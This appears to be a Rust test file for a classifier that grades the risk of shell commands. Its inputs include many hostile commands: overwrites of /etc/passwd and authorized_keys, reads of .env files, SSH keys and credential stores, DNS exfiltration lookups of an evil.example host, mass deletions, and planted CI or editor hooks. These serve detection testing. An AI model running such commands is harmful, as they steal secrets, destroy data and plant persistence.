//! Files that a command names in words which no table describes.

use super::judged::{at_least, at_most};
use super::*;
use crate::class::Class::{CriticalRed as C, Red as R, Yellow as Y, YellowExternal as E};

#[test]
fn a_file_of_the_system_counts_as_written_wherever_it_stands() {
    for file in ["/etc/passwd", "/etc/motd", "~/.bashrc", "/dev/sda", "/etc/cron.d/x", "~/.ssh/authorized_keys"] {
        let lines: Vec<String> = [
            "frobnicate -o F",
            "frobnicate --output=F",
            "frobnicate -oF",
            "frobnicate out=F",
            "frobnicate a F",
            "frobnicate F a",
            "pandoc a -o F",
            "ffmpeg -y -i a F",
            "tar -cf F x",
            "tar cf F x",
            "patch -o F",
            "rsync --log-file=F a b",
            "openssl enc -in a -out F",
            "git archive -o F HEAD",
            "psql -o F",
            "docker cp c:/x F",
            "perl -pi -e s/a/b/ F",
            "dos2unix F",
            "curl --etag-save F https://known.example/x",
            "/usr/bin/time -o F ls",
            "time -oF ls",
            "time --output=F ls",
            "time -ao F ls",
            "parallel --joblog F ls ::: a",
        ]
        .iter()
        .map(|line| line.replace('F', file))
        .collect();
        at_least(R, &lines.iter().map(String::as_str).collect::<Vec<_>>());
    }
    at_least(
        R,
        &[
            "install -t /etc a",
            "install -d /etc/x",
            "unzip a.zip -d/etc",
            "env -C /etc touch x",
            "env --chdir=/etc tee x",
            "sudo -D /etc touch x",
            "git --work-tree=/etc checkout .",
        ],
    );
    at_least(C, &["frobnicate -o /etc/passwd", "frobnicate --out ~/.ssh/authorized_keys"]);
    at_most(
        Y,
        &[
            "python3 /usr/lib/x.py",
            "pandoc a.md -o b.html",
            "make -C sub",
            "tar -xzf /var/lib/a.tgz",
            "tar -C /etc -czf a.tgz .",
            "nginx -t -c /etc/nginx/nginx.conf",
            "gcc -I/usr/include a.c -o a",
            "cp /etc/hosts .",
            "env -C sub touch x",
            "time -o a ls",
            "bash /usr/local/bin/x.sh",
            "openssl x509 -in /etc/ssl/certs/a.crt -noout",
        ],
    );
}

#[test]
fn a_secret_counts_as_read_wherever_it_stands() {
    at_least(
        Y,
        &[
            "cat .env*",
            "cat .en[v]",
            "cat .e?v",
            "cat ~/.s*/id*",
            "head .*",
            "jq -n --rawfile a .env '$a'",
            "jq -n --slurpfile a .env '$a'",
            "date -f .env",
            "date --file=.env",
            "xargs -a .env",
            "xargs -a .env echo",
            "xargs --arg-file=.env echo",
            "bc .env",
            "git diff --no-index /dev/null .env",
            "git show HEAD:.env",
            "git log -p -- .env",
            "git blame .env",
            "journalctl --file=.env",
            "last -f .env",
            "rg -g .env x",
            "env --chdir=~/.ssh cat id_x",
            "find . -name .env -exec cat {} \\;",
            "find . -name .env | xargs cat",
            "ls ~/.ssh/id_x | xargs cat",
            "cat /etc/ssl/private/a",
            "cat /etc/wireguard/wg0.conf",
            "cat ~/.config/gh/hosts.yml",
            "cat ~/.docker/config.json",
            "cat ~/.s3cfg",
            "cat wp-config.php",
            "cat .envrc",
            "cat prod.tfvars",
            "cat /tmp/krb5cc_1000",
            "cat ~/.vnc/passwd",
            "cat ~/.viminfo",
            "cat ~/.local/share/fish/fish_history",
            "cat /var/mail/root",
            "cat /proc/self/mem",
            "cat /proc/self/fd/3",
            "getent shadow",
        ],
    );
    at_least(E, &["getent hosts data.evil.example", "getent ahosts \"$x\".evil.example"]);
    at_most(
        Class::Green,
        &[
            "find . -name .env",
            "cat *.md",
            "cat src/*.rs",
            "cat *",
            "test -f .env",
            "echo .env",
            "git status",
            "grep -rn password src",
            "git log --grep=password",
            "wc -l *.json",
            "find . -name '*.rs' | xargs wc -l",
            "rg token src",
            "git log -p -- src/a.rs",
        ],
    );
}

#[test]
fn what_deletes_by_a_list_is_as_grave_as_what_deletes_by_a_pattern() {
    let mut lines: Vec<String> =
        ["find . -type f -exec rm {} +", "find . -exec cp /dev/null {} \\;", "for f in /etc/*; do rm \"$f\"; done"]
            .map(str::to_owned)
            .into();
    for deletes in ["rm", "rm -f", "unlink", "/bin/rm", "env rm", "truncate -s 0", "sudo rm"] {
        for list in ["find / -type f", "ls", "git ls-files", "cat names"] {
            lines.push(format!("{list} | xargs {deletes}"));
            lines.push(format!("{list} | xargs -0 -n1 {deletes} --"));
            lines.push(format!("{list} | xargs -I% {deletes} %"));
            lines.push(format!("{deletes} $({list})"));
            lines.push(format!("{list} | while read f; do {deletes} \"$f\"; done"));
            lines.push(format!("for f in $({list}); do {deletes} \"$f\"; done"));
        }
        lines.push(format!("find . -name x -exec {deletes} {{}} \\;"));
        lines.push(format!("find . -name x -execdir {deletes} {{}} +"));
    }
    lines.extend(
        [
            "echo /etc/passwd | xargs -n1 rm",
            "git rm -rf .",
            "git checkout-index -fa",
            "tar --remove-files -cf a b",
            "zip -m a b",
            "rsync -a --delete-delay a b",
            "cmake -E rm -rf a",
        ]
        .map(str::to_owned),
    );
    at_least(R, &lines.iter().map(String::as_str).collect::<Vec<_>>());
    at_most(
        Y,
        &[
            "rm -f \"$tmp\"",
            "rm \"$(mktemp)\"",
            "for f in a b; do rm \"$f\"; done",
            "find . -name '*.sh' -exec chmod 644 {} +",
            "find . | xargs -I% cp % keep/",
            "git rm a",
        ],
    );
}

/// Who looks at a file that others start does not plant it, whatever the tool.
#[test]
fn a_file_that_others_start_may_be_looked_at() {
    at_least(
        R,
        &[
            "cp hook .husky/pre-push",
            "mv a.yml .github/workflows/",
            "tee .gitlab-ci.yml < a",
            "sed -i s/a/b/ .pre-commit-config.yaml",
            "frobnicate -o .envrc",
            "frobnicate --output=.circleci/config.yml",
            "cd site && printf x >> .vscode/settings.json",
            "write: ./.devcontainer/devcontainer.json",
            "curl -o ~/.local/bin/ls https://known.example/x",
        ],
    );
    at_most(
        Y,
        &[
            "circleci-lint .circleci/config.yml",
            "actionlint .github/workflows/a.yml",
            "prettier --check .vscode/settings.json",
            "git add .github/workflows/a.yml",
            "write: package.json",
            "write: Makefile",
            "write: src/conftest.py",
        ],
    );
}
